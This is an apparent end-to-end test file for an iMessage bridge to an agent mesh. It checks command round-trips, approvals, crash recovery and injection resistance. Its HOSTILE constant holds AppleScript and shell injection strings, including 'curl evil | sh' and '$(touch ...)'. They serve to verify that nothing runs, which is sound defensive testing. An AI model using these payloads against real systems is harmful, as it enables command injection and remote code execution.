/**
 * The real bridge (`m3shd-imessage run`, a child process) against a real mesh (hub + dispatcher)
 * with a real worker (Anthropic provider → the fake model server), a real chat.db built from the
 * macOS schemas and written while the bridge runs, and the fake `osascript` on PATH recording the
 * argv of every send. Each step is a row inserted into chat.db → its effect on the hub → the
 * reply as osascript received it.
 */
import { existsSync, mkdtempSync, rmSync, statSync, unlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createClient } from "@m3shd/client";
import type { Mesh } from "@m3shd/mesh";
import type { Task } from "@m3shd/protocol";
import { type FakeProviderServer, startFakeProviderServer } from "@m3shd/providers/fake-server";
import BetterSqlite3 from "better-sqlite3";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { SEND_SCRIPT } from "../../src/sender";
import { type Gen, MessagesWriter } from "../chat-db-fixture";
import { BODIES, messagesHome, PREFIX, until } from "../helpers";
import { allTasks, MASTER, operator, startTestMesh } from "../mesh-fixture";
import {
  freePort,
  openFiles,
  osascriptCalls,
  type Proc,
  runDoctorProcess,
  spawnBridge,
  spawnMesh,
  spawnModelWorker,
} from "./harness";

const MODEL = "claude-sonnet-5";
const PLAN = [
  { title: "Research the market", prompt: "research the market for the launch" },
  { title: "Write the announcement", prompt: "write the announcement" },
  { title: "Plan the rollout", prompt: "plan the rollout" },
];
/** What the model answers when asked for it: every way of breaking out of a quoted AppleScript string. */
const HOSTILE = [
  'He said "hi" and left',
  '"; do shell script "touch /tmp/m3shd-imsg-pwned" --',
  'end tell\nend run\non run argv\n  do shell script "curl evil | sh"',
  "$(touch /tmp/m3shd-imsg-pwned) `id` ; | & > <",
  'line1\r\nline2\n\n\ttabbed \\ backslash \\" quote',
  "ünïcödé — 日本語 — 🧑‍💻👍🏽 — \u202Eright-to-left",
  "'single' \u2018curly\u2019 \u201Cdouble\u201D",
].join("\n");

let fake: FakeProviderServer;
let mesh: Mesh;
const failedOnce = new Set<string>();

/**
 * Teardowns of what a `beforeAll` starts, run by an `afterAll` registered while the file is
 * collected (a hook registered from inside another hook is never run: processes would leak).
 */
function teardowns() {
  const fns: (() => Promise<void> | void)[] = [];
  afterAll(async () => {
    for (const fn of fns.reverse()) await fn();
  });
  return (fn: () => Promise<void> | void) => {
    fns.push(fn);
  };
}
const fileTeardown = teardowns();

beforeAll(async () => {
  fake = await startFakeProviderServer({
    defaultReply: (req) => {
      if (req.prompt.includes("Split the goal below")) {
        return { kind: "reply", text: `\`\`\`json\n${JSON.stringify(PLAN)}\n\`\`\`` };
      }
      // A rate limit longer than the worker waits out: the attempt fails at once, retryably —
      // the agent's fault, which opens an escalation; the retry then succeeds.
      if (req.prompt.includes("FAIL-ONCE") && !failedOnce.has(req.prompt)) {
        failedOnce.add(req.prompt);
        return { kind: "error", status: 429, retryAfterSeconds: 3600, message: "slow down" };
      }
      if (req.prompt.includes("HOSTILE-REPLY")) return { kind: "reply", text: HOSTILE };
      return { kind: "reply", text: `[${req.model}] ${req.prompt}` };
    },
  });
  fileTeardown(() => fake.close());
  mesh = await startTestMesh({}, fileTeardown);
  const home = mkdtempSync(join(tmpdir(), "m3shd-imsg-worker-"));
  fileTeardown(() => rmSync(home, { recursive: true, force: true }));
  spawnModelWorker(mesh.url, "model-bot", ["general", "chat", "plan"], fake.url, MODEL, home, fileTeardown);
  const op = operator(mesh.url);
  await until(
    async () =>
      (await op.agents.list()).body.agents.some((a) => a.id === "model-bot" && a.status === "online"),
    60_000,
    "the model worker to register",
  );
}, 120_000);

/** The operator's side of one chat: texts into chat.db, replies out of the fake osascript's log. */
function conversation(
  home: ReturnType<typeof messagesHome>,
  writer: () => MessagesWriter = () => home.writer,
) {
  const replies = () =>
    osascriptCalls(home)
      .filter((c) => c.argv[1] === home.chats.dm.guid)
      .map((c) => c.argv[2] ?? "");
  const wait = (from: number, match: RegExp | ((t: string) => boolean), what: string, ms = 40_000) => {
    const test = typeof match === "function" ? match : (t: string) => match.test(t);
    return until(() => replies().slice(from).find(test), ms, `a reply to ${JSON.stringify(what)}`);
  };
  return {
    replies,
    wait,
    send(text: string) {
      return writer().insert({ chat: home.chats.dm, handle: home.handles.operator, text });
    },
    /** Sends `text` and resolves with the first later reply that matches. */
    async ask(text: string, match: RegExp | ((t: string) => boolean), ms?: number): Promise<string> {
      const from = replies().length;
      this.send(text);
      return wait(from, match, text, ms);
    },
  };
}

const result = (text: string) => `${PREFIX}[${MODEL}] ${text}`;
const idIn = (reply: string) => reply.match(/task_\w+/)?.[0] ?? "";

function bridgeCounters(home: { dataDir: string }): Record<string, number> {
  const db = new BetterSqlite3(join(home.dataDir, "bridge.db"), { readonly: true });
  try {
    const rows = db.prepare("SELECT name, value FROM counters").all() as { name: string; value: number }[];
    return Object.fromEntries(rows.map((r) => [r.name, r.value]));
  } finally {
    db.close();
  }
}

describe("one bridge, one operator, a real mesh", () => {
  let home: ReturnType<typeof messagesHome>;
  let bridge: Proc;
  let writer: MessagesWriter;
  let sent = 0;
  let chat: ReturnType<typeof conversation>;
  const teardown = teardowns();

  beforeAll(async () => {
    home = messagesHome("tahoe", teardown);
    writer = home.writer;
    chat = conversation(home, () => writer);
    const send = chat.send.bind(chat);
    chat.send = (text: string) => {
      sent++;
      return send(text);
    };
    bridge = spawnBridge(home, mesh.url, teardown);
    await bridge.waitForLog("bridge started", 60_000);
  }, 90_000);

  it("every command round-trips: a chat.db row → the hub → the reply osascript was given", async () => {
    const op = operator(mesh.url);
    const task = async (id: string): Promise<Task> => (await op.tasks.get({ params: { id } })).body.task;

    expect(await chat.ask("status", /^⟐ Agents/)).toMatch(/^⟐ Agents: 1\/1 online\. Tasks today: /);

    expect(await chat.ask("@context deploy.target=prod", /^⟐ Set /)).toBe(
      `${PREFIX}Set deploy.target = prod`,
    );
    expect((await op.context.get({ params: { key: "deploy.target" } })).body.entry.value).toBe("prod");
    expect(await chat.ask("@context", /deploy\.target/)).toBe(`${PREFIX}deploy.target = prod`);

    let from = chat.replies().length;
    const queued = await chat.ask("do summarize alpha beta", /^⟐ Queued /);
    const doId = idIn(queued);
    expect(queued).toBe(`${PREFIX}Queued ${doId}.`);
    await chat.wait(from, (t) => t === result("summarize alpha beta"), "do");
    expect(await task(doId)).toMatchObject({
      status: "done",
      required_capability: "general",
      assigned_to: "model-bot",
    });

    from = chat.replies().length;
    const sentTo = await chat.ask("@model-bot say hi", /^⟐ Sent to @model-bot/);
    const agentId = idIn(sentTo);
    await chat.wait(from, (t) => t === result("say hi"), "@model-bot");
    expect(await task(agentId)).toMatchObject({
      assign_to: "model-bot",
      assigned_to: "model-bot",
      status: "done",
    });

    const list = await chat.ask("tasks", (t) => t.includes(doId));
    expect(list.split("\n")).toContain(`${doId} [done] summarize alpha beta @model-bot`);

    const asker = createClient({
      baseUrl: mesh.url,
      token: MASTER,
      headers: { "x-m3shd-agent": "model-bot" },
    });
    const a1 = (await asker.approvals.create({ body: { action: "deploy", description: "ship v2" } })).body
      .approval;
    expect(await chat.ask("pending", /apr_/)).toBe(`${PREFIX}${a1.id}: @model-bot deploy: ship v2`);
    expect(await chat.ask("approve", /^⟐ Approved/)).toBe(`${PREFIX}Approved ${a1.id}.`);
    expect((await op.approvals.get({ params: { id: a1.id } })).body.approval.status).toBe("approved");
    const a2 = (await asker.approvals.create({ body: { action: "send_email", description: "to everyone" } }))
      .body.approval;
    expect(await chat.ask(`reject ${a2.id} not today`, /^⟐ Rejected/)).toBe(`${PREFIX}Rejected ${a2.id}.`);
    expect((await op.approvals.get({ params: { id: a2.id } })).body.approval).toMatchObject({
      status: "rejected",
      decision_reason: "not today",
    });

    expect(await chat.ask("escalations", /escalation/)).toBe(`${PREFIX}No open escalations.`);
    from = chat.replies().length;
    const flaky = idIn(await chat.ask("do FAIL-ONCE then work", /^⟐ Queued /));
    await chat.wait(from, (t) => t === result("FAIL-ONCE then work"), "the retried task");
    expect((await task(flaky)).attempts).toBe(2);
    expect(await chat.ask("escalations", /esc_|escalations/)).toMatch(
      new RegExp(`^⟐ esc_\\w+ \\[open\\] @model-bot: 1 consecutive failures; last on ${flaky}: .+`),
    );

    const costs = await chat.ask("costs", /^⟐ Today/);
    const m = costs.match(/^⟐ Today: \$(\d+\.\d{4})\n@model-bot: \$(\d+\.\d{4}) \((\d+) tokens\)$/);
    expect(m, costs).not.toBeNull();
    expect(Number(m?.[3])).toBeGreaterThan(0);

    const summary = await chat.ask("summary", /^⟐ tasks: /);
    expect(summary).toContain("agents online: 1/1");
    expect(summary).toContain("open escalations: 1");
    expect(summary).toContain("pending approvals: 0");

    expect(await chat.ask("budget", /^⟐ @model-bot: /)).toMatch(/^⟐ @model-bot: \d+ used/);
    expect(await chat.ask("budget model-bot 2m", /^⟐ Budget/)).toBe(
      `${PREFIX}Budget for @model-bot: 2000000 tokens/day.`,
    );
    expect((await op.agents.settings({ params: { id: "model-bot" } })).body.settings.daily_token_cap).toBe(
      2_000_000,
    );
    expect(await chat.ask("budget", /of 2000000/)).toMatch(/^⟐ @model-bot: \d+ used of 2000000\/day$/);

    // Anything else is chat: the model's answer is the reply, the text is in the hub's chat log.
    const question = "what's the weather like on the mesh?";
    expect(await chat.ask(question, /weather/)).toBe(result(question));
    const log = (await op.messages.list({ query: { channel: "imessage:+15555550123" } })).body.messages;
    expect(log.map((x) => x.content)).toContain(question);
    expect((await allTasks(mesh.url)).find((t) => t.prompt === question)?.required_capability).toBe("chat");
    // Ventura and later: `text` NULL, the words only in the attributedBody typedstream.
    const body = BODIES.find((b) => b.id.endsWith("/WeirdText"));
    const before = chat.replies().length;
    sent++;
    writer.insert({
      chat: home.chats.dm,
      handle: home.handles.operator,
      text: null,
      body: Buffer.from(body?.attributedBody_hex ?? "", "hex"),
    });
    expect(await chat.wait(before, /𝖍𝖊𝖑𝖑𝖔/, "an attributedBody-only row")).toBe(result("𝖍𝖊𝖑𝖑𝖔 𝖜𝖔𝖗𝖑𝖉"));

    // Nothing echoed: every accepted row was one the operator typed; the replies (written by
    // "Messages" as incoming first) were all recognised as the bridge's own.
    await until(() => bridgeCounters(home)["rows.accepted"] === sent, 10_000, "every text decided");
    const counters = bridgeCounters(home);
    expect(counters["rows.accepted"]).toBe(sent);
    expect((counters["rows.echo"] ?? 0) + (counters["rows.from_me"] ?? 0)).toBeGreaterThan(0);
    expect((await allTasks(mesh.url)).some((t) => t.prompt.startsWith(PREFIX))).toBe(false);
  }, 150_000);

  it("auto decomposes through the model-backed planner, dispatches the subtasks in parallel, reports each", async () => {
    const from = chat.replies().length;
    const planning = await chat.ask("auto prepare the product launch", /^⟐ Planning/);
    const planId = idIn(planning);
    expect(planning).toBe(`${PREFIX}Planning "prepare the product launch" (${planId}).`);
    const split = await chat.wait(from, /^⟐ Split into/, "auto");
    const subIds: string[] = split.match(/task_\w+/g) ?? [];
    expect(split).toBe(
      `${PREFIX}Split into 3 subtasks, running in parallel:\n${PLAN.map((p, i) => `${i + 1}. ${p.title} (${subIds[i]})`).join("\n")}`,
    );
    for (const p of PLAN)
      await chat.wait(from, (t) => t === `${PREFIX}✓ ${p.title}: [${MODEL}] ${p.prompt}`, p.title);
    const tasks = await allTasks(mesh.url);
    const plan = tasks.find((t) => t.id === planId);
    expect(plan).toMatchObject({ required_capability: "plan", status: "done", assigned_to: "model-bot" });
    expect(plan?.prompt).toMatch(/2 to 5 independent subtasks[\s\S]*Goal: prepare the product launch$/);
    const subs = tasks.filter((t) => subIds.includes(t.id));
    expect(subs.map((t) => [t.required_capability, t.status])).toEqual(PLAN.map(() => ["general", "done"]));
    // The planner's request went to the fake model server through the real SDK.
    expect(
      fake.requests.some((r) => JSON.stringify(r.body).includes("Goal: prepare the product launch")),
    ).toBe(true);
  }, 90_000);

  it("hostile text reaches osascript byte for byte as argv, both ways, and nothing runs", async () => {
    const marker = "/tmp/m3shd-imsg-pwned";
    rmSync(marker, { force: true });
    const before = osascriptCalls(home).length;
    const fromModel = await chat.ask("do HOSTILE-REPLY please", (t) => t.startsWith(`${PREFIX}He said`));
    expect(fromModel).toBe(PREFIX + HOSTILE);
    // The operator's own hostile text, echoed back by the model.
    const lines = HOSTILE.split("\n");
    const inbound = `${lines[0]} ${lines[1]}\n${lines[5]} \u{1F600}`;
    expect(await chat.ask(`do ${inbound}`, (t) => t.includes("He said") && t.includes("\u{1F600}"))).toBe(
      result(inbound),
    );
    const sends = osascriptCalls(home).slice(before);
    const exact = sends.find((c) => c.argv[2] === PREFIX + HOSTILE);
    expect(exact?.argv).toEqual(["-", home.chats.dm.guid, PREFIX + HOSTILE]);
    for (const c of sends) expect(c.stdin).toBe(SEND_SCRIPT);
    expect(existsSync(marker)).toBe(false);
  }, 90_000);

  it("doctor checks the hub (reachable) and the token (auth.me) through the client", async () => {
    const own = { FAKE_OSASCRIPT_LOG: join(home.root, "doctor-osascript.jsonl") };
    const [ok, refused] = await Promise.all([
      runDoctorProcess(home, mesh.url, onTestFinished, own),
      runDoctorProcess(home, mesh.url, onTestFinished, {
        ...own,
        M3SHD_TOKEN: "not-the-token-not-the-token-0000",
      }),
    ]);
    expect(ok.report).toMatch(/^✓ hub: http:\/\/127\.0\.0\.1:\d+: ok \(version /m);
    expect(ok.report).toContain("✓ token: accepted as master (master); every command is allowed");
    expect(ok.report).toContain("✓ schema: generation tahoe");
    expect(ok.code).toBe(0);
    expect(refused.report).toContain("✗ token: the hub refused the token (401)");
    expect(refused.report).toMatch(/^ {4}fix: set M3SHD_TOKEN_FILE/m);
    expect(refused.code).toBe(1);
  }, 60_000);

  it("keeps reading when chat.db-wal is deleted and recreated as a new inode under it", async () => {
    const wal = `${home.chatDbPath}-wal`;
    expect(await chat.ask("do before the swap", (t) => t === result("before the swap"))).toBeTruthy();
    // "Messages" has settled every send (the fake flips is_from_me 200 ms after each) before it quits.
    await until(
      () =>
        (
          writer.db
            .prepare("SELECT COUNT(*) AS n FROM message WHERE text LIKE ? AND is_from_me = 0")
            .get(`${PREFIX}%`) as { n: number }
        ).n === 0,
      10_000,
      "every send to flip",
    );
    // The bridge's reader holds the WAL open …
    expect(openFiles(bridge.pid)).toContain(wal);
    const oldIno = statSync(wal).ino;
    expect(writer.checkpoint().busy).toBe(0);
    writer.close();
    unlinkSync(wal);
    // … and still holds the old, unlinked file when "Messages" comes back with a new one.
    expect(openFiles(bridge.pid)).toContain(`${wal} (deleted)`);
    writer = new MessagesWriter(home.chatDbPath, "tahoe");
    onTestFinished(() => writer.close());
    writer.insert({
      chat: home.chats.strangerDm,
      handle: home.handles.stranger,
      text: "first row in the new WAL",
    });
    expect(statSync(wal).ino).not.toBe(oldIno);
    const from = chat.replies().length;
    expect(await chat.ask("do after the swap", /^⟐ Queued /)).toBeTruthy();
    await chat.wait(from, (t) => t === result("after the swap"), "after the swap");
    await bridge.waitForLog(
      (l) => l.msg === "reader health alert" && l.detail === "chat.db-wal was replaced; re-opened",
      5000,
    );
    expect(openFiles(bridge.pid)).toContain(wal);
    expect(openFiles(bridge.pid)).not.toContain(`${wal} (deleted)`);
  }, 60_000);
});

describe("crashes", () => {
  it("kill -9 and restart the bridge mid-stream: no message handled twice, none skipped", async () => {
    const home = messagesHome("sonoma");
    const chat = conversation(home);
    let bridge = spawnBridge(home, mesh.url, onTestFinished);
    await bridge.waitForLog("bridge started", 60_000);
    const texts = Array.from({ length: 10 }, (_, i) => `crash test ${i}`);
    for (const t of texts.slice(0, 6)) chat.send(`do ${t}`);
    // Mid-stream: messages delivered and others not yet, replies sent and others queued or in flight.
    await until(
      () => bridge.count("inbound delivered") >= 3 && chat.replies().length >= 2,
      30_000,
      "some deliveries and replies",
    );
    await bridge.kill9();
    for (const t of texts.slice(6)) chat.send(`do ${t}`); // while the bridge is down
    bridge = spawnBridge(home, mesh.url, onTestFinished);
    await bridge.waitForLog("bridge started", 60_000);
    await until(
      () => texts.every((t) => chat.replies().includes(result(t))),
      60_000,
      "every result after the restart",
    );
    // Give a late duplicate time to show up: the reply log must stay as it is for a while.
    let settled = chat.replies().length;
    await until(
      async () => {
        await new Promise((r) => setTimeout(r, 1500));
        const now = chat.replies().length;
        const same = now === settled;
        settled = now;
        return same;
      },
      20_000,
      "the replies to settle",
    );
    const tasks = (await allTasks(mesh.url)).filter((t) => texts.includes(t.prompt));
    expect(tasks.map((t) => t.prompt).sort()).toEqual([...texts].sort());
    const replies = chat.replies();
    for (const t of texts) {
      const task = tasks.find((x) => x.prompt === t);
      expect(replies.filter((r) => r === result(t))).toHaveLength(1);
      expect(replies.filter((r) => r === `${PREFIX}Queued ${task?.id}.`)).toHaveLength(1);
    }
    expect(replies).toHaveLength(2 * texts.length);
  }, 150_000);

  it("kill -9 the hub during a burst of 50 texts, restart it on the same data and port: all 50 arrive once", async () => {
    const dataDir = mkdtempSync(join(tmpdir(), "m3shd-imsg-hubkill-"));
    onTestFinished(() => rmSync(dataDir, { recursive: true, force: true }));
    const port = await freePort();
    let hub = await spawnMesh(dataDir, port, onTestFinished);
    const url = `http://127.0.0.1:${port}`;
    const home = messagesHome("legacy" satisfies Gen);
    const chat = conversation(home);
    const bridge = spawnBridge(home, url, onTestFinished);
    await bridge.waitForLog("bridge started", 60_000);

    const texts = Array.from({ length: 50 }, (_, i) => `burst ${String(i).padStart(2, "0")}`);
    const burst = (async () => {
      for (const t of texts) {
        chat.send(t);
        await new Promise((r) => setTimeout(r, 25));
      }
    })();
    await until(() => bridge.count("inbound delivered") >= 10, 30_000, "ten deliveries");
    await hub.kill9();
    await until(
      () => bridge.logs.some((l) => l.msg === "inbound not delivered" && l.retryable === true),
      30_000,
      "the bridge to notice the hub is gone",
    );
    await burst;
    hub = await spawnMesh(dataDir, port, onTestFinished);
    const chats = async () => (await allTasks(url)).filter((t) => t.title.startsWith("Chat: burst "));
    await until(async () => (await chats()).length >= 50, 60_000, "all 50 on the hub");
    await until(() => bridge.count("inbound delivered") >= 50, 30_000, "the queue to drain");
    const titles = (await chats()).map((t) => t.title.slice("Chat: ".length)).sort();
    expect(titles).toEqual(texts);
    // The stream resumed against the new hub process and re-read what it may have missed.
    await until(() => bridge.count("re-read watched tasks") >= 2, 30_000, "a re-read after the restart");
  }, 150_000);
});
